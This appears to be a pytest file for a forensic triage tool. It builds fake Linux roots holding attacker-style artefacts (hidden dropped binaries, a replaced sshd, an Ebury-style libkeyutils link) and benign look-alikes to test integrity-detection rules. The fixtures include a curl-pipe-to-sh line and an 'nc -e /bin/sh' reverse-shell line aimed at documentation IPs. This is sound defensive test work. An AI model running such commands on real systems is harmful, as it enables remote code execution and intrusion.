"""Executables in writable places and system folders (collectors/files/executables.py) and the integrity
rules (specs/rules/integrity.yaml) over them. The system side runs on a fake root whose dpkg database
the real dpkg wrote when it installed a package built by dpkg-deb (an sshd, a tool, a PAM module,
libkeyutils); the files are real ELFs. Every rule has a root with the behaviour and one with its benign
look-alike, and a whole run (collect --profile triage, then analyze) says yes for the first and no for
the second."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import tarfile
import time
from pathlib import Path

import pytest
from conftest import need, run_triagent, summary_of

from agent.analysis import rules as engine
from collectors.base import Context, FileCopy, Problem, Record
from collectors.files import executables, fsread

TRUE, FALSE = "/usr/bin/true", "/usr/bin/false"
MULTIARCH = "usr/lib/x86_64-linux-gnu"
INTEGRITY = [r for r in engine.load_rules() if r.id.startswith("TRI-INTEG-")]


def _library() -> str:
    for candidate in ("/lib/x86_64-linux-gnu/security/pam_permit.so", "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1",
                      "/lib/x86_64-linux-gnu/libc.so.6"):
        if os.path.exists(candidate):
            return os.path.realpath(candidate)
    pytest.skip("no shared library to copy")


def _collect(root: Path, **options) -> tuple[list[dict], list[Problem], list[FileCopy], list[dict]]:
    opts = {"install_slack_s": 0, **options}
    rows, problems, copies, dbs = [], [], [], []
    for item in executables.collect(Context(root=str(root), live=False, options=opts)):
        if isinstance(item, Record):
            (rows if item.stream == "executables" else dbs).append(item.data)
        elif isinstance(item, Problem):
            problems.append(item)
        elif isinstance(item, FileCopy):
            copies.append(item)
            item.close()
    return rows, problems, copies, dbs


def _findings(rows: list[dict], now: float | None = None) -> dict[str, list[dict]]:
    """Integrity findings by rule over the records, as analyze evaluates them (now: the collection time)."""
    feed = [("source", "triagent/artifacts/executables.jsonl", n, r) for n, r in enumerate(rows, 1)]
    found: dict[str, list[dict]] = {}
    for f in engine.evaluate(INTEGRITY, lambda source: iter(feed if source == "executables" else []),
                             now or time.time()):
        found.setdefault(f["rule"], []).append(f)
    return found


def _by_path(rows: list[dict]) -> dict[str, dict]:
    return {r["path"]: r for r in rows}


# ---- file facts ---------------------------------------------------------------------------------

def test_magic_of_real_files(tmp_path):
    with open(TRUE, "rb") as fh:
        assert executables.magic(fh.read(4096)).items() >= {"file_type": "elf", "elf_kind": "executable"}.items()
    with open(_library(), "rb") as fh:
        assert executables.magic(fh.read(4096))["elf_kind"] == "shared-object"
    busybox = shutil.which("busybox")
    if busybox:  # busybox-static: ET_EXEC, no interpreter
        with open(busybox, "rb") as fh:
            assert executables.magic(fh.read(4096))["elf_kind"] == "executable"
    assert executables.magic(b"#!/usr/bin/env -S python3 -u\nprint()\n").items() >= {
        "file_type": "script", "interpreter": "python3"}.items()
    assert executables.magic(b"#!/bin/sh\n")["interpreter"] == "sh"
    assert executables.magic(b"\x7fELF\x02")["elf_kind"] == "malformed"
    assert executables.magic(b"hello")["file_type"] == "other"


@pytest.mark.parametrize("compiler", ["gcc", "musl-gcc"])
def test_static_pie_is_an_executable(tmp_path, compiler):
    """A static PIE is ET_DYN without an interpreter, like a library: DF_1_PIE in its dynamic section tells."""
    need(shutil.which(compiler) is not None, f"{compiler} not installed")
    (tmp_path / "m.c").write_text("int main(void) { return 0; }\n")
    built = subprocess.run([compiler, "-static-pie", "-o", str(tmp_path / "m"), str(tmp_path / "m.c")],
                           capture_output=True)
    need(built.returncode == 0, f"{compiler} cannot link a static PIE: {built.stderr[-300:]!r}")
    library = subprocess.run([compiler, "-shared", "-fPIC", "-o", str(tmp_path / "m.so"), str(tmp_path / "m.c")],
                             capture_output=True)
    assert library.returncode == 0
    root = tmp_path / "root"
    (root / "tmp").mkdir(parents=True)
    shutil.copy(tmp_path / "m", root / "tmp/m")
    shutil.copy(tmp_path / "m.so", root / "tmp/m.so")
    seen = _by_path(_collect(root)[0])
    assert seen["/tmp/m"]["elf_kind"] == "executable" and seen["/tmp/m.so"]["elf_kind"] == "shared-object"


def test_size_caps(tmp_path):
    root = tmp_path / "root"
    (root / "tmp").mkdir(parents=True)
    shutil.copy(TRUE, root / "tmp/big")
    rows, _, copies, _ = _collect(root, hash_limit_bytes=1000, copy_cap_bytes=1000)
    big = _by_path(rows)["/tmp/big"]
    assert "sha256" not in big and big["hash_skipped"] == "over 1000 bytes"
    assert big["copy_skipped"] == "over 1000 bytes" and not copies and big["elf_kind"] == "executable"


# ---- writable places ----------------------------------------------------------------------------

def _writable_root(root: Path, attack: bool) -> dict[str, str]:
    """Programs in /tmp, /var/tmp, /dev/shm: dropped ones (attack) or what clean servers hold."""
    for folder in ("tmp", "var/tmp", "dev/shm", "run"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    os.symlink("/dev/shm", root / "run/shm")  # the same place under two names: walked once
    planted: dict[str, str] = {}

    def put(path: str, source: str | bytes, mode: int = 0o755) -> None:
        target = root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(source, bytes):
            target.write_bytes(source)
        else:
            shutil.copy(source, target)
        target.chmod(mode)
        planted[path] = hashlib.sha256(target.read_bytes()).hexdigest()

    # benign on both roots: a vendor installer's script, a service's PrivateTmp helper, a JNI library a
    # Java service unpacked, an apt unpack folder, data
    put("/tmp/vendor-agent-install.sh", b"#!/bin/bash\necho installing\n")
    put("/tmp/systemd-private-5f1c-chrony.service-AbCd/tmp/helper", TRUE)
    put("/tmp/libnetty_transport_native_epoll_x86_64123.so", _library(), 0o644)
    put("/var/tmp/apt-dpkg-install-Xy12/postinst-helper", b"#!/bin/sh\nexit 0\n")
    put("/tmp/report.csv", b"a,b\n1,2\n", 0o644)
    # a project someone cloned and built in /tmp: git's own hook samples (scripts in a hidden folder deep in
    # the tree), a prebuilt ELF program in node_modules, hundreds of files
    need(shutil.which("git") is not None, "git not installed")
    project = root / "tmp/build/project"
    project.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(project)], check=True, capture_output=True)
    put("/tmp/build/project/node_modules/@esbuild/linux-x64/bin/esbuild", TRUE)
    for i in range(60):
        put(f"/tmp/build/project/src/m{i}.js", b"module.exports = 1\n", 0o644)
    os.mkfifo(root / "tmp/fifo")  # never opened
    os.symlink("/etc/shadow", root / "tmp/shadow-link")  # never followed
    if attack:
        put("/tmp/.ICE-unix/.x/kworkerd", TRUE)  # a hidden ELF
        # an ELF program, not hidden (bytes of its own: the same bytes as another are copied once)
        put("/dev/shm/payload", Path(TRUE).read_bytes() + b"\0payload")
        put("/var/tmp/.cache/.update.sh", b"#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n")  # a hidden script
        for i in range(80):  # a big kit in a hidden folder: hidden, whatever its size
            put(f"/tmp/.X25-unix/.rsync/c/lib{i}.txt", b"x\n", 0o644)
        put("/tmp/.X25-unix/.rsync/c/tsm", TRUE)
    return planted


def test_writable_places(tmp_path):
    root = tmp_path / "root"
    planted = _writable_root(root, attack=True)
    deep = root / "tmp/deep"
    for i in range(12):
        deep = deep / f"d{i}"
    deep.mkdir(parents=True)
    shutil.copy(TRUE, deep / "too-deep")
    rows, problems, copies, _ = _collect(root, max_depth=8)
    seen = _by_path([r for r in rows if r["place"] == "writable"])
    git = {p for p in seen if p.startswith("/tmp/build/project/.git/")}
    assert set(seen) - git == set(planted), sorted(seen)  # no FIFO, no link, nothing too deep, once each
    hook = seen["/tmp/build/project/.git/hooks/pre-commit.sample"]
    assert hook["hidden_path"] and not hook["hidden"] and hook["tree"] == "/tmp/build" and hook["tree_files"] > 60
    assert seen["/dev/shm/payload"]["tree_files"] == 1
    assert any("depth limit 8" in p.message for p in problems)
    kworker = seen["/tmp/.ICE-unix/.x/kworkerd"]
    assert kworker["hidden"] and kworker["file_type"] == "elf" and kworker["elf_kind"] == "executable"
    assert kworker["sha256"] == planted["/tmp/.ICE-unix/.x/kworkerd"] and kworker["copied"]
    assert kworker["mode"] == "0755" and kworker["uid"] == os.getuid() and kworker["mtime_utc"].endswith("Z")
    assert kworker["recent"] is True
    script = seen["/var/tmp/.cache/.update.sh"]
    assert script["file_type"] == "script" and script["shebang"] == "/bin/sh" and script["sha256"]
    assert seen["/tmp/libnetty_transport_native_epoll_x86_64123.so"]["elf_kind"] == "shared-object"
    assert seen["/tmp/report.csv"]["file_type"] == "other" and "sha256" not in seen["/tmp/report.csv"]
    programs = {p: r for p, r in seen.items() if r["file_type"] in ("elf", "script")}
    assert {c.path for c in copies} == {p for p, r in programs.items() if not r.get("copy_of")}
    for r in programs.values():  # the same bytes copied once; the others name that copy
        assert not r.get("copy_of") or (seen[r["copy_of"]]["copied"] and seen[r["copy_of"]]["sha256"] == r["sha256"])
    assert all(c.length == c.stat.st_size for c in copies)


def test_writable_places_bounded(tmp_path):
    root = tmp_path / "root"
    (root / "tmp").mkdir(parents=True)
    for i in range(300):
        (root / "tmp" / f"f{i}").write_bytes(f"#!/b{i:05d}\n".encode())  # 10 bytes, each its own
    rows, problems, copies, _ = _collect(root, max_writable_entries=100, copy_total_bytes=50)
    assert len([r for r in rows if r["place"] == "writable"]) <= 100
    assert any("entry limit" in p.message for p in problems)
    assert len(copies) == 5  # 10 bytes each, 50 bytes for all copies
    assert any(r.get("copy_skipped") == "artifact copy budget spent" for r in rows)


def test_writable_rules(tmp_path):
    attack, clean = tmp_path / "attack", tmp_path / "clean"
    _writable_root(attack, attack=True)
    _writable_root(clean, attack=False)
    found = _findings(_collect(attack)[0])
    high = {f["path"] for f in found["TRI-INTEG-001"]}
    assert high == {"/tmp/.ICE-unix/.x/kworkerd", "/dev/shm/payload", "/var/tmp/.cache/.update.sh",
                    "/tmp/.X25-unix/.rsync/c/tsm"}
    assert all(f["severity"] == "high" and f["sha256"] for f in found["TRI-INTEG-001"])
    benign = _findings(_collect(clean)[0])
    assert "TRI-INTEG-001" not in benign
    low = {f["path"] for f in benign["TRI-INTEG-002"]}
    assert low >= {
        "/tmp/vendor-agent-install.sh", "/tmp/systemd-private-5f1c-chrony.service-AbCd/tmp/helper",
        "/tmp/libnetty_transport_native_epoll_x86_64123.so", "/var/tmp/apt-dpkg-install-Xy12/postinst-helper",
        "/tmp/build/project/node_modules/@esbuild/linux-x64/bin/esbuild",
        "/tmp/build/project/.git/hooks/pre-commit.sample"}
    assert {f["severity"] for fs in benign.values() for f in fs} == {"low"}


# ---- system folders against a dpkg database -----------------------------------------------------

def _deb(where: Path) -> Path:
    """openssh-lookalike: /usr/sbin/sshd, sshd-session, /usr/bin/tinytool, /usr/bin/tinyquiet (real ELFs), a PAM module,
    libkeyutils.so.1.10 and its soname link, a conffile; built by dpkg-deb."""
    src = where / "pkg"
    for folder in ("DEBIAN", "usr/sbin", "usr/bin", "etc", f"{MULTIARCH}/security", "usr/lib/openssh"):
        (src / folder).mkdir(parents=True, exist_ok=True)
    (src / "DEBIAN/control").write_text("Package: openssh-lookalike\nVersion: 1:9.2p1-2\nArchitecture: amd64\n"
                                        "Maintainer: t <t@example.org>\nDescription: test package\n")
    (src / "DEBIAN/conffiles").write_text("/etc/lookalike.conf\n")
    (src / "etc/lookalike.conf").write_text("x=1\n")
    for name in ("usr/sbin/sshd", "usr/bin/tinytool", "usr/bin/tinyquiet", "usr/lib/openssh/sshd-session"):
        shutil.copy(TRUE, src / name)
    shutil.copy(_library(), src / f"{MULTIARCH}/security/pam_lookalike.so")
    shutil.copy(_library(), src / f"{MULTIARCH}/libkeyutils.so.1.10")
    os.symlink("libkeyutils.so.1.10", src / f"{MULTIARCH}/libkeyutils.so.1")
    deb = where / "lookalike.deb"
    subprocess.run(["dpkg-deb", "-b", "--root-owner-group", str(src), str(deb)], check=True, capture_output=True)
    return deb


def system_root(tmp_path: Path, name: str, attack: bool, with_db: bool = True) -> Path:
    need(shutil.which("dpkg") is not None and shutil.which("dpkg-deb") is not None, "dpkg and dpkg-deb not installed")
    root = tmp_path / name
    for folder in ("usr/bin", "usr/sbin", MULTIARCH, "usr/local/bin", "var/lib/dpkg/info", "var/lib/dpkg/updates",
                   "etc", "tmp"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    for alias in ("bin", "sbin", "lib"):
        os.symlink(f"usr/{alias}", root / alias)
    (root / "var/lib/dpkg/status").touch()
    (root / "etc/passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    subprocess.run(["dpkg", f"--root={root}", "--force-all", "-i", str(_deb(tmp_path / f"{name}-build"))],
                   check=True, capture_output=True)
    time.sleep(0.02)  # what follows happens after the install (ctime later than the .list file)
    (root / "etc/lookalike.conf").write_text("x=2\n")  # the admin edits a conffile: never judged
    shutil.copy(TRUE, root / "usr/local/bin/admin-tool")  # admins drop tools in /usr/local
    (root / "usr/local/lib/security").mkdir(parents=True)  # and build PAM modules there
    shutil.copy(_library(), root / "usr/local/lib/security/pam_google_authenticator.so")
    (root / "usr/sbin/policy-rc.d").write_text("#!/bin/sh\nexit 101\n")  # unowned: a container image's helper
    if attack:
        shutil.copy(FALSE, root / "usr/sbin/sshd")  # replaced sshd
        with open(root / "usr/lib/openssh/sshd-session", "ab") as fh:  # and the part that handles logins
            fh.write(b"\0backdoor")
        with open(root / "usr/bin/tinytool", "ab") as fh:  # a patched tool
            fh.write(b"\0backdoor")
        shutil.copy(_library(), root / f"{MULTIARCH}/security/pam_unix2.so")  # a new PAM module
        shutil.copy(_library(), root / f"{MULTIARCH}/libkeyutils.so.1.9")  # Ebury's file ...
        os.unlink(root / f"{MULTIARCH}/libkeyutils.so.1")
        os.symlink("libkeyutils.so.1.9", root / f"{MULTIARCH}/libkeyutils.so.1")  # ... and the link to it
        shutil.copy(TRUE, root / "usr/bin/systemd-helperd")  # a new unowned program in /usr/bin
    if not with_db:
        shutil.rmtree(root / "var/lib/dpkg")
    return root


def test_system_folders_against_dpkg(tmp_path):
    root = system_root(tmp_path, "attack", attack=True)
    rows, problems, _, dbs = _collect(root)
    assert dbs == [{"package_db": "dpkg", "source": "/var/lib/dpkg/status", "packages": 1, "complete": True,
                    "paths_indexed": 7}]
    seen = _by_path([r for r in rows if r["place"] == "system"])
    sshd = seen["/usr/sbin/sshd"]
    assert sshd["verify"] == "mismatch" and sshd["package"] == "openssh-lookalike" and sshd["owned"] is True
    assert sshd["digest_algo"] == "md5" and sshd["digest"] == hashlib.md5(Path(FALSE).read_bytes()).hexdigest()
    assert sshd["package_digest"] == hashlib.md5(Path(TRUE).read_bytes()).hexdigest()
    assert sshd["sha256"] == hashlib.sha256(Path(FALSE).read_bytes()).hexdigest()
    tool = seen["/usr/bin/tinytool"]
    assert tool["verify"] == "mismatch" and "changed_since_install" in tool["why"]
    # an untouched packaged binary outside the hash list: hashed as a PATH program, and it matches its package
    quiet = seen["/usr/bin/tinyquiet"]
    # untouched since its package's install (ctime): listed, not read, unless path_hash_untouched
    assert quiet["why"] == ["recent", "path"] and quiet["verify"] == "not_hashed" and "sha256" not in quiet
    assert quiet["hash_skipped"].startswith("untouched since its package's install")
    quiet = _by_path(_collect(root, path_hash_untouched=True)[0])["/usr/bin/tinyquiet"]
    assert quiet["why"] == ["recent", "path"] and quiet["verify"] == "ok" and quiet["sha256"]
    assert quiet["sha256"] == hashlib.sha256(Path(TRUE).read_bytes()).hexdigest()
    assert seen[f"/{MULTIARCH}/security/pam_lookalike.so"]["verify"] == "ok"
    assert seen[f"/{MULTIARCH}/security/pam_unix2.so"]["owned"] is False
    assert seen[f"/{MULTIARCH}/libkeyutils.so.1.9"]["area"] == "libkeyutils"
    assert seen[f"/{MULTIARCH}/libkeyutils.so.1"]["link_target"] == "libkeyutils.so.1.9"
    assert seen[f"/{MULTIARCH}/libkeyutils.so.1.10"]["verify"] == "ok"
    assert seen["/usr/local/bin/admin-tool"]["area"] == "local_bin"
    assert "/bin/sshd" not in seen and "/etc/lookalike.conf" not in seen  # merged /usr: once; /etc not walked


def test_path_programs_hashed_within_their_own_caps(tmp_path):
    """Every file in the PATH folders is hashed from a budget of its own (per file and in total, both caps in
    the rows that hit them and in the closing summary); without it, untouched ones are only listed."""
    root = system_root(tmp_path, "attack", attack=True)
    # the old behaviour on request: an untouched packaged binary outside the hash list is listed, never read
    rows, _, _, _ = _collect(root, hash_path_binaries=False)
    quiet = _by_path(rows)["/usr/bin/tinyquiet"]
    assert quiet["why"] == ["recent"] and "sha256" not in quiet and quiet["verify"] is None
    # a per-file cap smaller than true(1): PATH-only files are listed with the cap, the files the rules need
    # (sshd, changed since install, unowned) keep the artifact's own cap and are hashed
    size = os.path.getsize(TRUE)
    rows, problems, _, _ = _collect(root, path_hash_limit_bytes=size - 1, path_hash_untouched=True)
    seen = _by_path([r for r in rows if r["place"] == "system"])
    assert seen["/usr/bin/tinyquiet"]["hash_skipped"] == f"over {size - 1} bytes"
    assert seen["/usr/bin/tinyquiet"]["verify"] == "not_hashed"
    assert "sha256" in seen["/usr/sbin/sshd"] and "sha256" in seen["/usr/bin/tinytool"]
    assert "sha256" in seen["/usr/bin/systemd-helperd"]
    summary = next(p for p in problems if p.message.startswith("system folders:"))
    assert summary.detail["path_hash_limit_bytes"] == size - 1 and summary.detail["path_not_hashed"] >= 1
    # a total too small for one: the row names the spent PATH budget
    rows, problems, _, _ = _collect(root, path_hash_total_bytes=size - 1, path_hash_untouched=True)
    quiet = _by_path(rows)["/usr/bin/tinyquiet"]
    assert quiet["hash_skipped"] == f"PATH hashing budget ({size - 1} bytes) spent" and "sha256" not in quiet
    assert "sha256" in _by_path(rows)["/usr/sbin/sshd"]
    # by default the untouched one is not read at all, and the summary counts it
    rows, problems, _, _ = _collect(root)
    summary = next(p for p in problems if p.message.startswith("system folders:"))
    assert summary.detail["path_untouched_not_read"] >= 1 and summary.detail["path_hash_untouched"] is False
    assert "sha256" in _by_path(rows)["/usr/bin/tinytool"]  # changed since install: hashed and judged


def test_system_rules_positive_and_benign(tmp_path):
    attack = _findings(_collect(system_root(tmp_path, "attack", attack=True))[0])
    assert {f["path"] for f in attack["TRI-INTEG-003"]} == {"/usr/sbin/sshd", "/usr/lib/openssh/sshd-session"}
    assert attack["TRI-INTEG-003"][0]["severity"] == "critical"
    assert [f["path"] for f in attack["TRI-INTEG-004"]] == ["/usr/bin/tinytool"]
    assert {f["path"] for f in attack["TRI-INTEG-005"]} == {f"/{MULTIARCH}/security/pam_unix2.so",
                                                            f"/{MULTIARCH}/libkeyutils.so.1.9"}
    assert {f["path"] for f in attack["TRI-INTEG-006"]} == {"/usr/bin/systemd-helperd", "/usr/sbin/policy-rc.d"}
    assert {f["path"] for f in attack["TRI-INTEG-007"]} == {"/usr/local/bin/admin-tool",
                                                            "/usr/local/lib/security/pam_google_authenticator.so"}

    clean_rows = _collect(system_root(tmp_path, "clean", attack=False))[0]
    clean = _findings(clean_rows)
    # the clean server: a conffile edited, a tool in /usr/local (low), a container's policy-rc.d (medium alone)
    assert set(clean) == {"TRI-INTEG-006", "TRI-INTEG-007"}, clean
    assert [f["path"] for f in clean["TRI-INTEG-006"]] == ["/usr/sbin/policy-rc.d"]
    # the same files seen 40 days later are old: nothing at all
    assert _findings(clean_rows, time.time() + 40 * 86400) == {}
    # an unowned PAM module when no package database could be read: ownership unknown, never "unowned"
    blind_rows = _collect(system_root(tmp_path, "blind", attack=True, with_db=False))[0]
    blind = _findings(blind_rows)
    assert not {"TRI-INTEG-003", "TRI-INTEG-004", "TRI-INTEG-005", "TRI-INTEG-006"} & set(blind), blind
    assert all(r["package_db"] == "none" and r["owned"] is None for r in blind_rows if r["place"] == "system")


# ---- the whole run ------------------------------------------------------------------------------

def _run(tmp_path: Path, root: Path) -> tuple[dict, list[dict], dict]:
    out = tmp_path / f"out-{root.name}"
    bundle = summary_of(run_triagent(["collect", "--root", str(root), "--profile", "triage",
                                      "--output", str(out)]))["bundle"]
    proc = run_triagent(["analyze", bundle, "--output", str(out / "analysis")])
    summary = json.loads(proc.stdout.decode().strip().splitlines()[-1])
    with tarfile.open(summary["analysis"]) as tar:
        names = tar.getnames()
        findings = [json.loads(x) for x in tar.extractfile("triagent/artifacts/findings.jsonl").read().splitlines()] \
            if "triagent/artifacts/findings.jsonl" in names else []
        verdict = json.loads(tar.extractfile("triagent/verdict.json").read())
    with tarfile.open(bundle) as tar:
        names = set(tar.getnames())
    return {"summary": summary, "members": names}, findings, verdict


def test_whole_run_says_yes_for_a_tampered_host_and_no_for_a_clean_one(tmp_path):
    attack = system_root(tmp_path, "attack", attack=True)
    _writable_root(attack, attack=True)
    info, findings, verdict = _run(tmp_path, attack)
    rules = {f.get("rule") for f in findings}
    # (TRI-INTEG-004 needs the tool changed over install_slack_s after its install: the unit test above)
    assert {"TRI-INTEG-001", "TRI-INTEG-003", "TRI-INTEG-005"} <= rules, sorted(map(str, rules))
    assert verdict["recommendation"] == "yes", verdict
    assert any(m.endswith("/dev/shm/payload") for m in info["members"])  # copied for YARA

    clean = system_root(tmp_path, "clean", attack=False)
    _writable_root(clean, attack=False)
    _, findings, verdict = _run(tmp_path, clean)
    strong = [f for f in findings if f["severity"] in ("critical", "high")]
    assert not strong, strong
    assert verdict["recommendation"] == "no", verdict


def test_own_executable_is_not_a_dropped_program(tmp_path, monkeypatch):
    """Pushed to /tmp by SSM, the collector (here: the staticx launcher's path) is not reported as dropped."""
    place = tmp_path / "push"
    place.mkdir()
    shutil.copy(TRUE, place / "triagent")
    shutil.copy(TRUE, place / "other")
    monkeypatch.setenv("STATICX_PROG_PATH", str(place / "triagent"))
    items = list(executables.collect(Context(root="/", live=True, options={
        "writable_places": [str(place)], "bin_folders": [], "security_globs": [], "library_globs": []})))
    listed = {i.data["path"] for i in items if isinstance(i, Record) and i.stream == "executables"}
    assert listed == {str(place / "other")}
    assert any(isinstance(i, Problem) and "own executable" in i.message for i in items)


def test_system_rules_against_rpm_sqlite(tmp_path):
    """The same judgement on an RPM host (SHA-256 digests from the SQLite rpmdb the real rpm wrote): a changed
    PAM module is critical, a changed packaged program high; a file the package marks %verify(not md5)
    changes without a finding."""
    from test_packages import rpm_root

    root = rpm_root(tmp_path)
    time.sleep(0.02)
    with open(root / "usr/lib64/security/pam_tinyr.so", "ab") as fh:
        fh.write(b"patched")
    (root / "usr/bin/tinyr").write_text("#!/bin/sh\nnc -e /bin/sh 192.0.2.1 4444\n")
    (root / "usr/bin/tinyr-state").write_text("#!/bin/sh\necho new state\n")
    rows = _collect(root)[0]
    seen = _by_path(rows)
    assert seen["/usr/bin/tinyr"]["digest_algo"] == "sha256" and seen["/usr/bin/tinyr"]["verify"] == "mismatch"
    assert seen["/usr/bin/tinyr-state"]["verify"] == "no_digest"
    found = _findings(rows)
    assert [f["path"] for f in found["TRI-INTEG-003"]] == ["/usr/lib64/security/pam_tinyr.so"]
    assert [f["path"] for f in found["TRI-INTEG-004"]] == ["/usr/bin/tinyr"]
    assert {r["package_db"] for r in rows if r["place"] == "system"} == {"rpm-sqlite"}


def test_secret_scripts_give_no_line(tmp_path):
    """A script the run's secret policy withholds keeps its type and digest; no shebang line reaches a record
    (the engine withholds its copy by the same policy)."""
    root = tmp_path / "root"
    (root / "tmp").mkdir(parents=True)
    (root / "tmp/.deploy.sh").write_bytes(b"#!/bin/sh -x TOKEN=abc\n-----BEGIN OPENSSH PRIVATE KEY-----\n")
    ctx = Context(root=str(root), live=False, options={},
                  secret_policy=lambda path, head: "private key" if b"PRIVATE KEY" in head else None)
    rows = [i.data for i in executables.collect(ctx) if isinstance(i, Record) and i.stream == "executables"]
    assert len(rows) == 1 and rows[0]["withheld"] == "private key" and rows[0]["file_type"] == "script"
    assert "shebang" not in rows[0] and "TOKEN" not in json.dumps(rows[0]) and rows[0]["sha256"]


def test_verify_against_several_owners():
    """Multilib or --force-overwrite: any owner's digest that matches makes the file good; a conffile is never
    a mismatch; no digest in the database is said, not guessed."""
    from collectors.files.packages import Owner

    a = Owner("a", "1", "aa", "md5", False, 1.0)
    b = Owner("b", "1", "bb", "md5", False, 1.0)
    conf = Owner("c", "1", "cc", "md5", True, 1.0)
    bare = Owner("d", "1", None, None, False, 1.0)
    assert executables._verify([a, b], {"digest": "bb"}, "md5") == "ok"
    assert executables._verify([a, b], {"digest": "zz"}, "md5") == "mismatch"
    assert executables._verify([conf], {"digest": "zz"}, "md5") == "config"
    assert executables._verify([bare], {"digest": "zz"}, None) == "no_digest"
    assert executables._verify([a], {}, "md5") is None  # not hashed
    assert executables._verify([], {"digest": "zz"}, None) is None and executables._verify(None, {}, None) is None


def test_repointed_library_link_found_when_other_package_lists_are_missing(tmp_path):
    """Ebury's link: libkeyutils.so.1 (owned by its package) repointed at a library that package does not
    ship. A fake or damaged root whose dpkg database lacks other packages' lists makes every unlisted file's
    ownership unknown (TRI-INTEG-005 stays silent), but the link's own package lists all it installs."""
    stanza = ("\nPackage: base-files\nStatus: install ok installed\nPriority: required\nVersion: 12.4\n"
              "Architecture: amd64\nDescription: listed in status, no .list file\n")
    found = {}
    for name, attack in (("attack", True), ("clean", False)):
        root = system_root(tmp_path, name, attack=attack)
        with open(root / "var/lib/dpkg/status", "a") as status:
            status.write(stanza)
        rows = _collect(root)[0]
        link = _by_path([r for r in rows if r["place"] == "system"])[f"/{MULTIARCH}/libkeyutils.so.1"]
        found[name] = (_findings(rows), link)
    attack, link = found["attack"]
    assert link["target_in_link_package"] is False and link["target_path"] == f"/{MULTIARCH}/libkeyutils.so.1.9"
    assert "TRI-INTEG-005" not in attack  # ownership of the unlisted library is unknown ...
    assert [f["path"] for f in attack["TRI-INTEG-008"]] == [f"/{MULTIARCH}/libkeyutils.so.1"]  # ... the link says it
    assert attack["TRI-INTEG-008"][0]["severity"] == "critical"
    clean, link = found["clean"]
    assert link["target_in_link_package"] is True and "TRI-INTEG-008" not in clean


def test_same_bytes_copied_once_and_core_dumps_not_copied(tmp_path):
    """A kit unpacked twice (or a tree of test copies) costs one copy: later rows name the first by copy_of.
    A core dump is process memory, not a program: hashed and listed, never copied (ELF header with
    e_type ET_CORE, written by hand from the ELF specification)."""
    import struct

    root = tmp_path / "root"
    for folder in ("tmp/a", "tmp/b"):
        (root / folder).mkdir(parents=True)
        shutil.copy(TRUE, root / folder / "kit")
    core = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9) + struct.pack("<HHI", 4, 62, 1) + bytes(48) + bytes(4096)
    (root / "tmp/core.1234").write_bytes(core)
    rows, problems, copies, _ = _collect(root)
    seen = _by_path(rows)
    first, second = seen["/tmp/a/kit"], seen["/tmp/b/kit"]
    assert first["copied"] and not second["copied"] and second["copy_of"] == "/tmp/a/kit"
    assert first["sha256"] == second["sha256"]
    assert [c.path for c in copies] == ["/tmp/a/kit"]
    dump = seen["/tmp/core.1234"]
    assert dump["elf_kind"] == "core" and dump["sha256"] and not dump["copied"]
    assert dump["copy_skipped"].startswith("core dump")
    assert any("1 the same content as one copied" in p.message for p in problems)


def test_writable_rows_held_compactly_until_the_place_is_walked(tmp_path):
    """Rows wait for their tree's file count; 4 000 of them must not cost 4 000 dicts (a /tmp of a build or test
    box reaches the 20 000-entry cap). Real files; the rows come back whole, in walk order."""
    import tracemalloc

    root = tmp_path / "root"
    kit = root / "tmp/kit"
    kit.mkdir(parents=True)
    for i in range(4000):
        (kit / f"data-file-with-a-longish-name-{i:05d}.txt").write_bytes(b"x")
    options = {"install_slack_s": 0, "writable_places": ["/tmp"], "bin_folders": [], "security_globs": [],
               "library_globs": [], "extra_globs": []}
    names, trees = [], set()
    ctx = Context(root=str(root), live=False, options=options)
    fsread.evidence(ctx)  # opened once per root (it reads mountinfo with a 16 MiB buffer): not what is measured
    tracemalloc.start()
    try:
        for item in executables.collect(ctx):
            if isinstance(item, Record) and item.data.get("place") == "writable":
                row = item.data  # looked at, not kept: the peak is the collector's own
                assert row["mtime_utc"].endswith("Z") and row["size"] == 1 and row["copied"] is False
                names.append(row["name"])
                trees.add((row["tree"], row["tree_files"]))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(names) == 4000 and trees == {("/tmp/kit", 4000)}
    assert peak < 4000 * 950, peak  # rows as dicts: 4.6 MB here; as JSON text: 3.1 MB


def test_package_keeper_matches_the_extra_globs_as_fnmatch_does():
    """The package database's paths are filtered by one compiled pattern of the extra globs: it keeps what
    fnmatch would, and nothing more (a glob's '.' and '[' are not regex syntax)."""
    keep = executables._keeper(["/usr/lib/openssh/sshd-*", "/opt/a.b/[xy]?.so"])
    assert keep("/usr/lib/openssh/sshd-session")
    assert keep("/usr/lib/openssh/sshd-auth")
    assert not keep("/usr/lib/openssh/ssh-keysign")
    assert keep("/opt/a.b/x1.so") and keep("/opt/a.b/y2.so")
    assert not keep("/opt/aXb/x1.so") and not keep("/opt/a.b/z1.so") and not keep("/opt/a.b/x1.so.1")
    assert keep("/usr/sbin/sshd") and keep("/lib/x86_64-linux-gnu/security/pam_unix.so")
    assert not keep("/usr/share/doc/openssh-server/README")
    assert not executables._keeper([])("/usr/lib/openssh/sshd-session")
